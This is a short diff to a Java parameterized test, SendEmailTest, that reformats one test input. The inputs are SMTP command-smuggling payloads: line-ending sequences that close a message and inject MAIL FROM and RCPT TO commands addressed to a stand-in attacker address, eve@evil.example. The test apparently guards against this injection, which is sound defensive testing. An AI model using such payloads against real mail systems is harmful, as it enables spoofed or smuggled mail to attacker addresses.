@@ -212,7 +212,13 @@ class SendEmailTest {
   @ParameterizedTest
   @ValueSource(
       strings = {
-        "x\r\n.\r\nMAIL FROM:<agent@weir.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA\r\nhi\r\n.\r\n",
+        "x\r\n"
+            + ".\r\n"
+            + "MAIL FROM:<agent@weir.example>\r\n"
+            + "RCPT TO:<eve@evil.example>\r\n"
+            + "DATA\r\n"
+            + "hi\r\n"
+            + ".\r\n",
         "x\n.\nMAIL FROM:<agent@weir.example>\nRCPT TO:<eve@evil.example>\nDATA\nhi\n.\n",
         "x\n.\r\nMAIL FROM:<agent@weir.example>\r\nRCPT TO:<eve@evil.example>\r\n",
         "x\r.\rMAIL FROM:<agent@weir.example>\rRCPT TO:<eve@evil.example>\r"
